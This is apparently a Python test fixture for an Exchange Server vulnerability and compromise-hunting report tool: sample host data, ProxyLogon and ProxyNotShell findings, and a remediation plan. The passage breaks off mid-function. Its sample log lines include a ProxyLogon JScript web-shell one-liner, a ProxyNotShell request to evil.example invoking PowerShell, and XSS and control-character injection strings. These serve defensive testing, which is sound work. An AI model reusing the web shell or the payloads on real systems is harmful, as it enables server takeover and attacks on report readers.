"""A realistic report.json (format version 1, extended with the hunt) shared by the report writer tests.

Four hosts:
- ex13-broken: evidence bundle with a damaged server.json -> status error, hunt not run;
- ex16: Exchange 2016 CU19 without SU, hit by ProxyLogon in March 2021 (HttpProxy SSRF, ECP
  virtual-directory script, OAB generator write, a planted page) -> vulnerable and compromised:
  yes, although its logs reach back over only part of the exposure window;
- ex16-patched: Exchange 2016 CU23 Apr25HU, scanned in 2025 with a ProxyNotShell request whose
  IIS log line carries hostile text (markup, an attribute break-out, ANSI colour, NUL, BEL, a
  right-to-left override, a pipe, a CDATA end, backticks) -> two attempts, compromise unknown
  (one source capped, one missing, the 2022 exposure window not covered);
- ex19: Exchange 2019 CU15 May25HU, every source read, never exposed -> compromised: no.

Log lines are those of shared reference log-formats.md sections 2, 3, 4 and 7 (server names
changed to ex16); rule ids are those of indicators.md.
"""

from __future__ import annotations

import copy
from typing import Any

from exchange_remediation.estate_report import build_report
from exchange_remediation.remediation_summary import summarise_remediation

EXCHANGE = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
HTTPPROXY_LOG = EXCHANGE + "Logging\\HttpProxy\\Ecp\\HttpProxy_2021030306-1.LOG"
ECP_LOG = EXCHANGE + "Logging\\ECP\\Server\\ECPServer20210303-1.LOG"
OABGEN_LOG = EXCHANGE + "Logging\\OABGeneratorLog\\OABGenerator_2021030306-1.LOG"
IIS_LOG_2021 = "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210305.log"
IIS_LOG_2025 = "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex250601.log"
WEBSHELL = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\shell.aspx"

# log-formats.md section 2: ProxyLogon SSRF, first request (autodiscover only) and the ECP session (241).
AUTODISCOVER_LINE = (
    "2021-03-03T06:49:42.162Z,8d2b6f1e-3c4a-4f5b-9e7d-1a2b3c4d5e6f,15,1,2176,2,,Ecp,mail.contoso.com,/ecp/y.js,,,"
    "false,,,ServerInfo~a]@ex16.contoso.local:444/autodiscover/autodiscover.xml?#,ExchangeServicesClient/0.0.0.0,"
    "203.0.113.45,EX16,200,200,,POST,Proxy,ex16.contoso.local:444,,,X-BEResource-Cookie" + "," * 46 + "CafeV1"
)
PROXYLOGON_LINE = (
    "2021-03-03T06:49:46.210Z,0b9e4c2d-7f1a-4e3b-8c5d-6a7b8c9d0e1f,15,1,2176,2,,Ecp,mail.contoso.com,/ecp/y.js,,,"
    "false,,,ServerInfo~a]@ex16.contoso.local:444/ecp/proxyLogon.ecp?#,python-requests/2.25.1,"
    "203.0.113.45,EX16,241,241,,POST,Proxy,ex16.contoso.local:444,,,X-BEResource-Cookie" + "," * 46 + "CafeV1"
)
# log-formats.md section 3: the web shell's markup stuffed into the OAB virtual directory's ExternalUrl.
ECP_ATTACK_LINE = (
    '2021-03-03T06:49:53.772Z,EX16,ECP.Request,"S:TIME=1873;S:SID=4b3f0d5e-1c2a-4e6b-9f7d-2a1b3c4d5e6f;'
    "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">"
    "function Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>''."
    "Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3''';S:REQID=;"
    "S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=M1xSxxxDuw.&schema=OABVirtualDirectory;"
    'S:REFERRER=;S:EX=;S:RS=0;S:BLD=15.1.2176.2"'
)
# log-formats.md section 4 (the surrounding fields are not published).
OABGEN_LINE = (
    f"2021-03-03T06:52:19.904Z,… Download failed and temporary file '{WEBSHELL}' needs to be removed …"
)
# log-formats.md section 7: a planted page that answers 200.
WEBSHELL_ACCESS_LINE = (
    "2021-03-05 03:06:27 10.0.10.11 GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;"
    "&cafeReqId=cde28fc4-299e-4179-b3e9-de56f5c1d9ee;&encoding=; 443 - 198.51.100.199 "
    "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/65.0.2345+Safari/537.36"
    " - 200 0 0 133"
)
# A ProxyNotShell request (log-formats.md section 7 shape) whose user agent carries everything a
# hostile client can put into a log line.
HOSTILE_EVIDENCE = (
    "2025-06-01 03:12:44 10.0.10.11 POST /autodiscover/autodiscover.json "
    "@evil.example/owa/&Email=autodiscover/autodiscover.json%3F@evil.example&Protocol=XYZ&FooProtocol=%50owershell"
    "&CorrelationID=<empty>;&cafeReqId=a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d; 443 - 198.51.100.7 "
    'Mozilla/5.0+<script>alert(1)</script>"><img+src=x+onerror=alert(2)>\x1b[31mRED\x1b[0m\x00NUL\x07'
    "+x\u202excod.aspx| pipe ]]> `tick` ``` - 401 1 2148074254 15"
)
# What a reader sees once control characters are removed and the RTL override is made visible.
HOSTILE_SHOWN = (HOSTILE_EVIDENCE.replace("\x1b", "").replace("\x00", "").replace("\x07", "")
                 .replace("\u202e", "[U+202E]"))


def _cve(status: str, fixed_by: str | None, reason: str) -> dict[str, Any]:
    return {"status": status, "fixed_by": fixed_by, "reason": reason}


def _stream(required: bool, files: int, lines: int, first: str | None, last: str | None,
            **extra: Any) -> dict[str, Any]:
    stats = {"present": files > 0, "required": required, "files": files, "lines": lines, "bytes": lines * 310,
             "first": first, "last": last, "warnings": [], "capped": False}
    stats.update(extra)
    return stats


def _window(attack: str, cves: list[str], began: str, start: str | None, end: str | None, basis: str,
            exposed: bool, covered: float | None) -> dict[str, Any]:
    attacks = [attack, "OWASSRF"] if attack == "ProxyNotShell" else [attack]
    return {"attack": attack, "attacks": attacks, "cves": cves, "exploitation_began": began, "exposed": exposed,
            "start": start, "end": end, "end_basis": basis, "covered_percent": covered}


PROXYLOGON_CVES = ["CVE-2021-26855", "CVE-2021-26857", "CVE-2021-26858", "CVE-2021-27065"]
PROXYSHELL_CVES = ["CVE-2021-34473", "CVE-2021-34523", "CVE-2021-31207"]
PROXYNOTSHELL_CVES = ["CVE-2022-41040", "CVE-2022-41082", "CVE-2022-41080"]


def _finding(rule: str, title: str, attack: str, cves: list[str], severity: str, source: str, line: int | None,
             time: str, detail: str, evidence: str, attempt: bool = False) -> dict[str, Any]:
    return {"rule": rule, "cve": cves[0] if cves else None, "cves": cves, "severity": severity, "source": source,
            "line": line, "time": time, "detail": detail, "title": title, "attack": attack, "evidence": evidence,
            "attempt": attempt}


def _ex16() -> dict[str, Any]:
    details = {
        "CVE-2020-0688": _cve("patched", "Feb20SU", "CU19 contains Feb20SU"),
        "CVE-2021-24085": _cve("vulnerable", "Feb21SU", "15.1.2176.2 is below Feb21SU 15.1.2176.4"),
        "CVE-2021-26855": _cve("vulnerable", "Mar21SU", "15.1.2176.2 is below Mar21SU 15.1.2176.9"),
        "CVE-2021-26857": _cve("mitigated", "Mar21SU", "below Mar21SU 15.1.2176.9; "
                               "MSExchangeUM and MSExchangeUMCR stopped and disabled"),
        "CVE-2021-26858": _cve("vulnerable", "Mar21SU", "15.1.2176.2 is below Mar21SU 15.1.2176.9"),
        "CVE-2021-27065": _cve("vulnerable", "Mar21SU", "15.1.2176.2 is below Mar21SU 15.1.2176.9"),
        "CVE-2021-31207": _cve("vulnerable", "May21SU", "15.1.2176.2 is below May21SU 15.1.2176.14"),
        "CVE-2021-34470": _cve("unknown", "Jul21SU",
                               "AD schema (ms-Exch-Storage-Group possSuperiors) not collected"),
        "CVE-2021-34473": _cve("vulnerable", "Apr21SU", "15.1.2176.2 is below Apr21SU 15.1.2176.12"),
        "CVE-2021-34523": _cve("vulnerable", "Apr21SU", "15.1.2176.2 is below Apr21SU 15.1.2176.12"),
        "CVE-2022-41040": _cve("vulnerable", "Nov22SU", "CU19 gets no Nov22SU; a newer CU is needed"),
        "CVE-2022-41082": _cve("vulnerable", "Nov22SU", "CU19 gets no Nov22SU; a newer CU is needed"),
    }
    indicators = [
        _finding("PL-26855-HTTPPROXY", "ProxyLogon SSRF to a back-end path (HttpProxy)", "ProxyLogon",
                 ["CVE-2021-26855"], "critical", HTTPPROXY_LOG, 8, "2021-03-03T06:49:46.210Z",
                 "AnchorMailbox ServerInfo~a]@ex16.contoso.local:444/ecp/proxyLogon.ecp?# from 203.0.113.45, "
                 "status 241", PROXYLOGON_LINE),
        _finding("PL-27065-ECPSERVER", "Script stuffed into a virtual-directory URL (ECP Server log)", "ProxyLogon",
                 ["CVE-2021-27065"], "critical", ECP_LOG, 5, "2021-03-03T06:49:53.772Z",
                 "Set-OabVirtualDirectory with a script block in ExternalUrl", ECP_ATTACK_LINE),
        _finding("PL-26858-OABGEN", "Arbitrary file write through the OAB generator", "ProxyLogon",
                 ["CVE-2021-26858"], "critical", OABGEN_LOG, 31, "2021-03-03T06:52:19.904Z",
                 f"temporary file '{WEBSHELL}' outside {EXCHANGE}ClientAccess\\OAB", OABGEN_LINE),
        _finding("PL-WEBSHELL-ACCESS", "Request to a planted page", "Webshell", [], "high", IIS_LOG_2021, 12,
                 "2021-03-05T03:06:27Z", "GET /owa/auth/RedirSuiteServerProxy.aspx from 198.51.100.199, status 200",
                 WEBSHELL_ACCESS_LINE),
        _finding("PL-26855-BLOG", "Unauthenticated ServerInfo~ request (HAFNIUM blog query)", "ProxyLogon",
                 ["CVE-2021-26855"], "medium", HTTPPROXY_LOG, 7, "2021-03-03T06:49:42.162Z",
                 "AnchorMailbox ServerInfo~a]@ex16.contoso.local:444/autodiscover/autodiscover.xml?# "
                 "from 203.0.113.45", AUTODISCOVER_LINE),
    ]
    hunt = {
        "status": "done", "error": None, "rules": 41,
        "sources": {
            "Application": _stream(True, 1, 18422, "2021-02-20T00:00:04.000Z", "2021-03-08T09:58:40.000Z"),
            "ECP": _stream(True, 17, 5120, "2021-02-07T00:01:18.223Z", "2021-03-08T09:59:12.000Z"),
            "HttpProxy": _stream(True, 412, 126000, "2021-02-07T09:00:01.000Z", "2021-03-08T09:59:58.000Z"),
            "IIS": _stream(False, 30, 120311, "2021-02-07T00:00:00.000Z", "2021-03-08T09:59:59.000Z"),
            "MSExchangeManagement": _stream(True, 1, 311, "2021-01-12T14:02:00.000Z", "2021-03-08T09:12:31.000Z"),
            "OABGenerator": _stream(True, 30, 912, "2021-02-07T06:00:00.000Z", "2021-03-08T06:00:02.000Z"),
            "RpsHttp": _stream(False, 0, 0, None, None),
            "SystemFiles": _stream(False, 58, 0, None, None,
                                   warnings=["C:\\Windows\\Temp\\xx.bat: first 64 KiB of 1.2 MiB copied"]),
            "WebFolders": _stream(True, 214, 0, None, None),
        },
        "exposure": [
            _window("ProxyLogon", PROXYLOGON_CVES, "2021-01-06", "2021-01-06", "2021-03-08",
                    "open when collected (CVE-2021-26855 vulnerable)", True, 26.7),
            _window("ProxyShell", PROXYSHELL_CVES, "2021-08-05", "2021-08-05", "2021-03-08",
                    "open when collected (CVE-2021-31207 vulnerable)", False, 100.0),
            _window("ProxyNotShell", PROXYNOTSHELL_CVES, "2022-08-01", "2022-08-01", "2021-03-08",
                    "open when collected (CVE-2022-41040 vulnerable)", False, 100.0),
        ],
        "coverage_percent": 26.7, "min_coverage_percent": 90.0,
        "logs_from": "2021-02-20T00:00:04Z", "logs_to": "2021-03-08T06:00:02Z",
        "reasons": [], "excluded": {"PL-26855-HTTPPROXY": 3, "PL-26858-OABGEN": 12},
        "findings_total": 5, "findings_shown": 5, "warnings": [],
    }
    return {
        "status": "ok",
        "error": None,
        "source": "evidence",
        "evidence_dir": "inventories/demo/evidence/ex16",
        "hostname": "EX16",
        "fqdn": "ex16.contoso.local",
        "collected_at": "2021-03-08T10:00:00Z",
        "exchange": {
            "product": "Exchange Server 2016", "cu": "CU19", "su": None, "build": "15.1.2176.2",
            "supported": False, "latest": False, "support_end": "2025-10-14", "roles": ["Mailbox"],
            "edge": False, "dag": "DAG01", "site": "HQ", "build_note": None,
        },
        "cves": {cve: detail["status"] for cve, detail in details.items()},
        "cve_details": details,
        "indicators": indicators,
        "hunt": hunt,
        "verdict": {"vulnerable": True, "compromised": "yes"},
        "next_step": {
            "action": "investigate", "target_cu": "CU23", "target_su": "May25HU",
            "target_build": "15.1.2507.57",
            "summary": "Isolate and investigate (3 critical ProxyLogon indicators), then install CU23 "
                       "(KB5011155) and May25HU (15.1.2507.57, KB5057653).",
        },
        "warnings": [
            {"code": "product_out_of_support", "message": "CU19 gets no more security updates."},
        ],
    }


def _ex19() -> dict[str, Any]:
    cves = ["CVE-2021-26855", "CVE-2021-34470", "CVE-2022-41040", "CVE-2022-41082", "CVE-2023-21707",
            "CVE-2024-26198", "CVE-2025-53786"]
    details = {cve: _cve("patched", None, "included in 2019 CU15") for cve in cves}
    details["CVE-2025-53786"] = _cve("patched", "Apr25HU", "15.2.1748.26 >= Apr25HU 15.2.1748.24")
    details["CVE-2021-26857"] = _cve("not_applicable", "Mar21SU", "no Unified Messaging in Exchange 2019")
    month = ("2025-05-11T00:00:03.000Z", "2025-06-10T09:27:58.000Z")
    installed = "installed on 2025-02-18, after the fix"
    return {
        "status": "ok",
        "error": None,
        "source": "live",
        "evidence_dir": "evidence/20250610T093000Z/ex19",
        "hostname": "EX19",
        "fqdn": "ex19.contoso.local",
        "collected_at": "2025-06-10T09:28:12Z",
        "exchange": {
            "product": "Exchange Server 2019", "cu": "CU15", "su": "May25HU", "build": "15.2.1748.26",
            "supported": True, "latest": True, "support_end": "2025-10-14", "roles": ["Mailbox"],
            "edge": False, "dag": "DAG01", "site": "HQ", "build_note": None,
        },
        "cves": {cve: detail["status"] for cve, detail in details.items()},
        "cve_details": details,
        "indicators": [],
        "hunt": {
            "status": "done", "error": None, "rules": 41,
            "sources": {
                "Application": _stream(True, 1, 20554, *month),
                "ECP": _stream(True, 30, 8410, *month),
                "HttpProxy": _stream(True, 388, 210440, *month),
                "MSExchangeManagement": _stream(True, 1, 902, *month),
                "OABGenerator": _stream(True, 30, 1210, *month),
                "WebFolders": _stream(True, 187, 0, None, None),
            },
            "exposure": [
                _window("ProxyLogon", PROXYLOGON_CVES, "2021-01-06", "2025-02-18", "2025-02-18",
                        f"{installed} (included in 2019 CU15)", False, 100.0),
                _window("ProxyShell", PROXYSHELL_CVES, "2021-08-05", "2025-02-18", "2025-02-18",
                        f"{installed} (included in 2019 CU15)", False, 100.0),
                _window("ProxyNotShell", PROXYNOTSHELL_CVES, "2022-08-01", "2025-02-18", "2025-02-18",
                        f"{installed} (included in 2019 CU15)", False, 100.0),
            ],
            "coverage_percent": 100.0, "min_coverage_percent": 90.0,
            "logs_from": month[0], "logs_to": month[1],
            "reasons": [], "excluded": {}, "findings_total": 0, "findings_shown": 0, "warnings": [],
        },
        "verdict": {"vulnerable": False, "compromised": "no"},
        "next_step": {"action": "none", "target_cu": "CU15", "target_su": "May25HU",
                      "target_build": "15.2.1748.26",
                      "summary": "Up to date (CU15 May25HU); keep applying new SUs as they ship."},
        "warnings": [],
    }


def _ex13_broken() -> dict[str, Any]:
    reason = "server.json is not valid JSON: Expecting ',' delimiter: line 14 column 5 (char 412)"
    hunt_error = f"no evidence to hunt: {reason}"
    return {
        "status": "error",
        "error": reason,
        "source": "evidence",
        "evidence_dir": "inventories/demo/evidence/ex13-broken",
        "hostname": None,
        "fqdn": None,
        "collected_at": None,
        "exchange": {"product": None, "cu": None, "su": None, "build": None, "supported": None,
                     "latest": None},
        "cves": {"CVE-2021-26855": "unknown", "CVE-2022-41040": "unknown"},
        "cve_details": {},
        "indicators": [],
        "hunt": {"status": "not_run", "error": hunt_error, "rules": 0, "sources": {}, "exposure": [],
                 "coverage_percent": None, "min_coverage_percent": 90.0, "reasons": [hunt_error], "excluded": {},
                 "findings_total": 0, "findings_shown": 0, "warnings": []},
        "verdict": {"vulnerable": None, "compromised": "unknown"},
        "next_step": {"action": "investigate", "target_cu": None, "target_su": None, "target_build": None,
                      "summary": f"Not assessed: {reason}. Collect the server's facts again; "
                                 "until then treat it as exposed."},
        "warnings": [],
    }


def _ex16_patched() -> dict[str, Any]:
    details = {
        "CVE-2021-26855": _cve("patched", "Mar21SU", "2016 CU23 contains Mar21SU"),
        "CVE-2022-41040": _cve("patched", "Nov22SU", "15.1.2507.55 >= Nov22SU 15.1.2507.16"),
        "CVE-2022-41082": _cve("patched", "Nov22SU", "15.1.2507.55 >= Nov22SU 15.1.2507.16"),
        "CVE-2023-36434": _cve("unknown", None, "IIS TokenCacheModule version not collected"),
        "CVE-2025-53786": _cve("patched", "Apr25HU", "15.1.2507.55 >= Apr25HU 15.1.2507.55"),
    }
    month = ("2025-05-11T00:00:01.000Z", "2025-06-10T09:28:40.000Z")
    scan = "autodiscover and powershell in the decoded URI from 198.51.100.7, status 401"
    uncovered = "logs cover 0% of the ProxyNotShell exposure window (2022-08-01 to 2022-11-10; minimum 90%)"
    return {
        "status": "ok",
        "error": None,
        "source": "live",
        "evidence_dir": "evidence/20250610T093000Z/ex16-patched",
        "hostname": "EX16-PATCHED<b>|`x`",
        "fqdn": "ex16-patched.contoso.local",
        "collected_at": "2025-06-10T09:29:40Z",
        "exchange": {
            "product": "Exchange Server 2016", "cu": "CU23", "su": "Apr25HU", "build": "15.1.2507.55",
            "supported": True, "latest": False, "support_end": "2025-10-14", "roles": ["Mailbox"],
            "edge": False, "dag": None, "site": "BRANCH", "build_note": None,
        },
        "cves": {cve: detail["status"] for cve, detail in details.items()},
        "cve_details": details,
        "indicators": [
            _finding("PNS-IIS-AUTODISCOVER-POWERSHELL", "ProxyNotShell autodiscover request to PowerShell (IIS)",
                     "ProxyNotShell", ["CVE-2022-41040", "CVE-2022-41082"], "high", IIS_LOG_2025, 42,
                     "2025-06-01T03:12:44Z", scan, HOSTILE_EVIDENCE, attempt=True),
            _finding("PS-IIS-AUTODISCOVER", "ProxyShell autodiscover path confusion (IIS)", "ProxyShell",
                     PROXYSHELL_CVES, "medium", IIS_LOG_2025, 42, "2025-06-01T03:12:44Z", scan, HOSTILE_EVIDENCE,
                     attempt=True),
        ],
        "hunt": {
            "status": "done", "error": None, "rules": 41,
            "sources": {
                "Application": _stream(True, 1, 250000, *month, capped=True,
                                       warnings=["Application.evtx: 250000 of 1840311 events kept (cap hit)"]),
                "ECP": _stream(True, 30, 7802, *month),
                "HttpProxy": _stream(True, 402, 198220, *month),
                "IIS": _stream(False, 30, 301822, *month),
                "MSExchangeManagement": _stream(True, 0, 0, None, None),
                "OABGenerator": _stream(True, 30, 1190, *month),
                "WebFolders": _stream(True, 190, 0, None, None),
            },
            "exposure": [
                _window("ProxyLogon", PROXYLOGON_CVES, "2021-01-06", "2022-06-14", "2021-03-02",
                        "installed on 2022-06-14, after the fix (Mar21SU)", False, 100.0),
                _window("ProxyShell", PROXYSHELL_CVES, "2021-08-05", "2022-06-14", "2021-05-11",
                        "installed on 2022-06-14, after the fix (May21SU)", False, 100.0),
                _window("ProxyNotShell", PROXYNOTSHELL_CVES, "2022-08-01", "2022-08-01", "2022-11-10",
                        "Nov22SU installed on 2022-11-10 (installed_updates)", True, 0.0),
            ],
            "coverage_percent": 0.0, "min_coverage_percent": 90.0,
            "logs_from": month[0], "logs_to": month[1],
            "reasons": [
                "Application: not fully read (a size cap was hit or a check could not run)",
                "MSExchangeManagement: not in the evidence",
                uncovered,
            ],
            "excluded": {"PNS-IIS-AUTODISCOVER-POWERSHELL": 4}, "findings_total": 2, "findings_shown": 2,
            "warnings": [],
        },
        "verdict": {"vulnerable": False, "compromised": "unknown"},
        "next_step": {"action": "install_su", "target_cu": "CU23", "target_su": "May25HU",
                      "target_build": "15.1.2507.57",
                      "summary": "Install May25HU (15.1.2507.57, KB5057653) on CU23."},
        "warnings": [
            {"code": "iis_log_retention_short",
             "message": "IIS logs start 2025-05-11 | older attacks cannot be ruled out [see](http://evil.example/x)"},
        ],
    }


_REPORT: dict[str, Any] = {
    "schema": 1,
    "generated_at": "2025-06-10T09:30:00Z",
    "run": {"playbook": "playbooks/assess.yml", "check_mode": True, "ansible_version": "2.17.4"},
    "summary": {"hosts": 4, "ok": 3, "error": 1, "vulnerable": 1, "compromised": 1, "compromised_unknown": 2,
                "unsupported": 1, "compromised_no": 1, "hunted": 3, "indicators": 7, "indicators_critical": 3,
                "indicators_high": 1, "indicators_medium": 1, "indicators_low": 0, "indicators_attempt": 2},
    "hosts": {"ex16": _ex16(), "ex19": _ex19(), "ex13-broken": _ex13_broken(), "ex16-patched": _ex16_patched()},
}


def sample_report() -> dict[str, Any]:
    """A fresh copy each call, so a test may mutate it freely."""
    return copy.deepcopy(_REPORT)


def without_hunt(report: dict[str, Any]) -> dict[str, Any]:
    """The same report as the assessment wrote it before the hunt existed: no hunt key, no findings,
    compromise unknown everywhere."""
    for host in report["hosts"].values():
        host.pop("hunt", None)
        host["indicators"] = []
        host["verdict"]["compromised"] = "unknown"
    return report


# --- a remediation run of the demo estate (remediate.yml): plan.json, outcomes, before and after ---
#
# Builds and KBs are the catalog's (data/exchange-builds.csv); AD levels are those of
# reference exchange-builds.md. The estate is patched one server at a time (max_per_wave 1):
# ex19-dag1 gets Aug26SU on CU14, ex16-legacy CU23 and Aug26SU, ex16-mitigated's CU23 setup
# fails, so edge01 (wave 4) is skipped. remediation_refused() is the same run where ex16-legacy
# refuses its pre-checks instead.

SETUP_LOG = "C:\\ExchangeSetupLogs\\ExchangeSetup.log"
LICENSE_OFF = "/IAcceptExchangeServerLicenseTerms_DiagnosticDataOFF"
DAMAGED_ERROR = ("/srv/exchange/inventories/demo/evidence/ex-damaged/server.json is not valid JSON: "
                 "Expecting property name enclosed in double quotes at line 16 column 8")


def _demo_host(product: str | None, cu: str | None, su: str | None, build: str | None, dag: str | None = None,
               site: str | None = "HQ", supported: bool = False, vulnerable: bool | None = False,
               error: str | None = None) -> dict[str, Any]:
    return {
        "status": "error" if error else "ok",
        "error": error,
        "exchange": {"product": product, "cu": cu, "su": su, "build": build, "supported": supported if build else None,
                     "latest": False if build else None, "dag": dag, "site": site},
        "cves": {},
        "indicators": [],
        "verdict": {"vulnerable": vulnerable, "compromised": "unknown"},
    }


def _demo_before() -> dict[str, dict[str, Any]]:
    return {
        "edge01": _demo_host("Exchange Server 2019", "CU15", "Feb26SU", "15.2.1748.43", site=None),
        "ex-damaged": _demo_host(None, None, None, None, site=None, vulnerable=None, error=DAMAGED_ERROR),
        "ex10": _demo_host("Exchange Server 2010", "SP3 RU32", None, "14.3.513.0"),
        "ex16-legacy": _demo_host("Exchange Server 2016", "CU19", None, "15.1.2176.2", vulnerable=True),
        "ex16-mitigated": _demo_host("Exchange Server 2016", "CU18", None, "15.1.2106.2", site="BRANCH",
                                     vulnerable=True),
        "ex16-patched": _demo_host("Exchange Server 2016", "CU23", "Aug26SU", "15.1.2507.72"),
        "ex19-dag1": _demo_host("Exchange Server 2019", "CU14", "Nov24SUv2", "15.2.1544.14", dag="DAG01",
                                vulnerable=True),
        "ex19-dag2": _demo_host("Exchange Server 2019", "CU14", "Aug26SU", "15.2.1544.44", dag="DAG01"),
    }


def demo_after() -> dict[str, dict[str, Any]]:
    """The re-assessment: ex16-legacy and ex19-dag1 patched, everything else as before."""
    hosts = _demo_before()
    hosts["ex16-legacy"] = _demo_host("Exchange Server 2016", "CU23", "Aug26SU", "15.1.2507.72")
    hosts["ex19-dag1"] = _demo_host("Exchange Server 2019", "CU14", "Aug26SU", "15.2.1544.44", dag="DAG01")
    return hosts


def demo_before() -> dict[str, dict[str, Any]]:
    return _demo_before()


def _current(host: dict[str, Any]) -> dict[str, Any]:
    return {key: host["exchange"][key] for key in ("build", "cu", "su")}


def _server(name: str, state: str, reasons: list[str], wave: int | None = None,
            target: dict[str, Any] | None = None, steps: list[dict[str, Any]] | None = None,
            minutes: int = 0) -> dict[str, Any]:
    host = _demo_before()[name]
    exchange = host["exchange"]
    return {
        "state": state, "reasons": reasons, "live": True, "hostname": name.upper(),
        "fqdn": f"{name}.contoso.local" if host["status"] == "ok" else None,
        "product": exchange["product"], "roles": ["Mailbox"], "edge": name == "edge01",
        "maintenance": "edge" if name == "edge01" else ("dag" if exchange["dag"] else "standalone"),
        "dag": exchange["dag"], "site": exchange["site"], "wave": wave, "current": _current(host),
        "target": target, "license_switch": LICENSE_OFF if any(s["kind"] == "cu" for s in steps or []) else None,
        "prerequisites": [], "steps": steps or [], "media": [], "modelled_minutes": minutes,
    }


_CU23_2016 = {"kind": "cu", "name": "CU23", "build": "15.1.2507.6", "kb": "KB5011155", "media": "2016-CU23-iso",
              "arguments": ["/Mode:Upgrade", LICENSE_OFF]}
_AUG26SU_2016 = {"kind": "su", "name": "Aug26SU", "build": "15.1.2507.72", "kb": "KB5121576",
                 "media": "2016-CU23-Aug26SU-msp"}
_TARGET_2016 = {"cu": "CU23", "cu_build": "15.1.2507.6", "cu_kb": "KB5011155", "su": "Aug26SU",
                "build": "15.1.2507.72", "su_kb": "KB5121576"}


def demo_plan() -> dict[str, Any]:
    servers = {
        "ex19-dag1": _server("ex19-dag1", "patch", [], 1, {
            "cu": "CU14", "cu_build": "15.2.1544.4", "cu_kb": "KB5035606", "su": "Aug26SU", "build": "15.2.1544.44",
            "su_kb": "KB5121575"}, [{"kind": "su", "name": "Aug26SU", "build": "15.2.1544.44", "kb": "KB5121575",
                                     "media": "2019-CU14-Aug26SU-msp"}], 90),
        "ex16-legacy": _server("ex16-legacy", "patch", [], 2, dict(_TARGET_2016), [
            {"kind": "prerequisite", "id": "urlrewrite", "name": "IIS URL Rewrite Module 2.1",
             "media": "urlrewrite-2.1-x64"}, dict(_CU23_2016), dict(_AUG26SU_2016)], 250),
        "ex16-mitigated": _server("ex16-mitigated", "patch", [], 3, dict(_TARGET_2016),
                                  [dict(_CU23_2016), dict(_AUG26SU_2016)], 250),
        "edge01": _server("edge01", "patch", [], 4, {
            "cu": "CU15", "cu_build": "15.2.1748.10", "cu_kb": "KB5042461", "su": "Aug26SU", "build": "15.2.1748.49",
            "su_kb": "KB5121574"}, [{"kind": "su", "name": "Aug26SU", "build": "15.2.1748.49", "kb": "KB5121574",
                                     "media": "2019-CU15-Aug26SU-msp"}], 60),
        "ex-damaged": _server("ex-damaged", "blocked", [f"no facts: {DAMAGED_ERROR}"]),
        "ex10": _server("ex10", "blocked", ["Exchange 2010 is out of support and has no automatic path: migrate"]),
        "ex16-patched": _server("ex16-patched", "up_to_date", [], target={
            "cu": "CU23", "cu_build": "15.1.2507.6", "cu_kb": "KB5011155", "su": "Aug26SU", "build": "15.1.2507.72",
            "su_kb": "KB5121576"}),
        "ex19-dag2": _server("ex19-dag2", "up_to_date", [], target={
            "cu": "CU14", "cu_build": "15.2.1544.4", "cu_kb": "KB5035606", "su": "Aug26SU", "build": "15.2.1544.44",
            "su_kb": "KB5121575"}),
    }
    waves = [{"number": number, "servers": [name], "modelled_minutes": servers[name]["modelled_minutes"]}
             for number, name in enumerate(("ex19-dag1", "ex16-legacy", "ex16-mitigated", "edge01"), start=1)]
    return {
        "schema": 1,
        "generated_at": "2026-11-29T10:00:00Z",
        "options": {"max_per_wave": 1, "max_per_site": None, "upgrade_to_se": False, "diagnostic_data": "OFF",
                    "hosts": sorted(servers)},
        "ad_preparation": {
            "needed": True, "steps": ["PrepareSchema", "PrepareAD", "PrepareAllDomains"],
            "target": {"product": "Exchange Server 2016", "cu": "CU23"}, "media": "2016-CU23-iso",
            "license_switch": LICENSE_OFF,
            "reasons": ["2016 CU23 needs schema 15334, MESO 13243 and organisation 16223; ex16-legacy and "
                        "ex16-mitigated run CU19 and CU18"],
        },
        "servers": servers,
        "waves": waves,
        "summary": {"servers": 8, "patch": 4, "up_to_date": 2, "blocked": 2, "waves": 4, "lower_bound": 4,
                    "limited_by": "max_per_wave 1", "modelled_window_minutes": 650, "serial_window_minutes": 650,
                    "speedup": 1.0},
    }


def _outcome(host: str, state: str, reason: str | None, wave: int, before: str, after: str | None,
             failed_step: str | None = None, setup_log: str | None = None,
             maintenance_exited: bool | None = True) -> dict[str, Any]:
    return {"host": host, "state": state, "reason": reason, "failed_step": failed_step, "setup_log": setup_log,
            "build_before": before, "build_after": after, "maintenance_exited": maintenance_exited, "wave": wave,
            "started_at": "2026-11-29T10:05:00Z", "finished_at": "2026-11-29T11:10:00Z",
            "checks": [{"name": "free_disk", "ok": True, "detail": "C: 84 GB free >= 30 GB"}]}


CU_FAILURE = "Exchange setup exited with code 1: the CU23 Mailbox role step failed (see the setup log)"
STOPPED_AFTER_MITIGATED = "rollout stopped after ex16-mitigated failed"


def demo_outcomes() -> dict[str, dict[str, Any]]:
    return {
        "ex19-dag1": _outcome("ex19-dag1", "patched", None, 1, "15.2.1544.14", "15.2.1544.44"),
        "ex16-legacy": _outcome("ex16-legacy", "patched", None, 2, "15.1.2176.2", "15.1.2507.72"),
        "ex16-mitigated": _outcome("ex16-mitigated", "failed", CU_FAILURE, 3, "15.1.2106.2", "15.1.2106.2",
                                   failed_step="cu", setup_log=SETUP_LOG),
        "edge01": _outcome("edge01", "skipped", STOPPED_AFTER_MITIGATED, 4, "15.2.1748.43", None,
                           maintenance_exited=None),
    }


REFUSAL = "pre-checks failed: a reboot is pending (PendingFileRenameOperations)"


def refused_outcomes() -> dict[str, dict[str, Any]]:
    """ex16-legacy refuses its pre-checks: it is never touched and the later waves are skipped."""
    outcomes = demo_outcomes()
    outcomes["ex16-legacy"] = _outcome("ex16-legacy", "refused", REFUSAL, 2, "15.1.2176.2", None,
                                       failed_step="precheck", maintenance_exited=None)
    for name in ("ex16-mitigated", "edge01"):
        outcomes[name] = _outcome(name, "skipped", "rollout stopped after ex16-legacy failed",
                                  outcomes[name]["wave"], outcomes[name]["build_before"], None,
